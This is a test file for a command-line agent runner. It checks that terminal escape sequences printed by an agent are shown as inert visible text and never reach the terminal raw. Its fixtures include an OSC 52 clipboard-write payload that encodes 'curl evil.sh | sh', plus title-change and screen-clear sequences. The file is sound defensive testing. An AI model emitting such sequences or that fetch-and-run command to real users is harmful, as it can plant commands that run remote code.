import { describe, expect, it } from 'vitest';
import { runCli, scratch, transcript } from './helpers.js';

type Json = Record<string, any>;

// What a hostile or confused agent can print: a clipboard write (OSC 52), a title change, a screen
// clear, a cursor move, a bell, and the 8-bit CSI.
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const TITLE = '\x1b]0;pwned\x07';
const CLEAR = '\x1b[2J\x1b[H';
const CURSOR = '\x1b[5A';
const CSI8 = '\u009b31m';
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const story = [
  { type: 'session.started', cwd: '/w', sessionId: `s${TITLE}`, model: 'fake-model' },
  { type: 'turn.started', turn: 1 },
  { type: 'message', role: 'assistant', text: `copy this${OSC52} done${CLEAR}` },
  { type: 'tool.started', callId: 'b', name: 'Bash', kind: 'shell', input: { command: `echo ${CURSOR}hi${CSI8}` } },
  {
    type: 'tool.completed',
    callId: 'b',
    name: 'Bash',
    output: `boom${TITLE}\nline 2`,
    isError: true,
    exitCode: 1,
    durationMs: 5,
  },
  { type: 'warning', message: `careful${CLEAR}` },
  { type: 'turn.completed', turn: 1 },
  { type: 'result', ok: false, error: `failed${OSC52}` },
];

describe('terminal escape sequences from the agent never reach the terminal raw', () => {
  it('run, runs, runs show and compare show them as visible text; colours and layout stay', async () => {
    const dir = scratch();
    const t = transcript(dir, 't.jsonl', story);
    const r = await runCli(['run', '-H', 'fake', '-m', `m${TITLE}`, '--tag', `t${CSI8}`, 'go'], {
      cwd: dir,
      env: { OMNIGENT_FAKE_TRANSCRIPT: t, OMNIGENT_FAKE_STDERR: `stderr${OSC52}\n` },
    });
    expect(r.stdout).toContain('copy this␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇ done␛[2J␛[H');
    expect(r.stdout).toContain('Bash');
    expect(r.stdout).toContain('␛[5Ahi\\x9b31m');
    expect(r.stdout).toContain('careful␛[2J');
    expect(r.stdout).not.toMatch(RAW);

    const [run] = JSON.parse((await runCli(['runs', '--json'], { cwd: dir })).stdout) as Json[];
    // the store keeps what the agent wrote; only display neutralizes it
    expect(run!.tags).toEqual([`t${CSI8}`]);

    for (const args of [
      ['runs'],
      ['runs', 'show', run!.id as string],
      ['compare', '--by', 'harness,model'],
      ['compare', '--csv'],
      ['compare', '--by', 'tool'],
    ]) {
      const out = await runCli(args, { cwd: dir });
      expect(out.code, args.join(' ')).toBe(0);
      expect(out.stdout, args.join(' ')).not.toMatch(RAW);
    }
    const show = await runCli(['runs', 'show', run!.id as string], { cwd: dir });
    expect(show.stdout).toContain('assistant: copy this␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇ done␛[2J␛[H');
    expect(show.stdout).toContain('Bash [shell] echo ␛[5Ahi\\x9b31m');
    expect(show.stdout).toContain('FAILED (error, exit 1) 5ms: boom␛]0;pwned␇');
    expect((await runCli(['runs'], { cwd: dir })).stdout).toContain('t\\x9b31m');
  });

  it("keeps omnigent's own colours in run output (FORCE_COLOR) while neutralizing the agent's", async () => {
    const dir = scratch();
    const t = transcript(dir, 't.jsonl', [
      { type: 'message', role: 'assistant', text: `x${CLEAR}` },
      { type: 'result', ok: true },
    ]);
    const r = await runCli(['run', '-H', 'fake', 'go'], {
      cwd: dir,
      env: { OMNIGENT_FAKE_TRANSCRIPT: t, FORCE_COLOR: '1', NO_COLOR: undefined },
    });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('x␛[2J␛[H');
    expect(r.stdout).not.toContain('\x1b[2J');
    // omnigent's own green tick is still coloured
    expect(r.stdout).toMatch(/\x1b\[32m✓/);
  });
});
